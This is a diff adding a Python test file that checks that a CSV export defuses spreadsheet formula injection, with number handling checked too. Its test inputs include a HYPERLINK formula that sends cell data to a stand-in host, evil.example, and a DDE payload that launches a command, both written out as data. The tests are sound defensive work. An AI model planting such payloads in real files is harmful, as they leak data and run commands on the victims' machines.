@@ -1,0 +1,38 @@
+"""A CSV that is opened in a spreadsheet calculates nothing that a document says, and its numbers are numbers."""
+
+import csv
+
+import pytest
+
+from warehouse.releases.files import BOM, write_csv
+from warehouse.store import memory
+
+
+def written(tmp_path, rows):
+    with memory() as con:
+        path = write_csv(con, rows, tmp_path / "rows.csv")
+    content = path.read_bytes()
+    assert content.startswith(BOM)
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        return list(csv.reader(file))
+
+
+@pytest.mark.parametrize(
+    "text",
+    ['=HYPERLINK("http://evil.example?"&A1,"x")', "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(1,1)", "\t=1", "\r=1", "＝1+1",
+     "-", "+", "-inf"],
+)  # fmt: skip
+def test_a_text_that_would_be_calculated_is_a_text(tmp_path, text):
+    quoted = text.replace("'", "''")
+    assert written(tmp_path, f"SELECT '{quoted}' AS body, 1 AS n") == [["body", "n"], ["'" + text, "1"]]
+
+
+def test_numbers_and_other_texts_stay_as_they_are(tmp_path):
+    rows = (
+        "SELECT * FROM (VALUES (-5, -1.50::DECIMAL(9,2), '-5', '+1.5', '-1e3', '许昌市=', '1=1', '', NULL),"
+        " (3, 2, '0', 'x', '2023-01-01', ' =1', chr(39) || '=1', 'a', 'b')) ORDER BY 1 DESC"
+    )
+    assert written(tmp_path, rows)[1:] == [
+        ["3", "2.00", "0", "x", "2023-01-01", " =1", "'=1", "a", "b"],
+        ["-5", "-1.50", "-5", "+1.5", "-1e3", "许昌市=", "1=1", "", ""],
+    ]
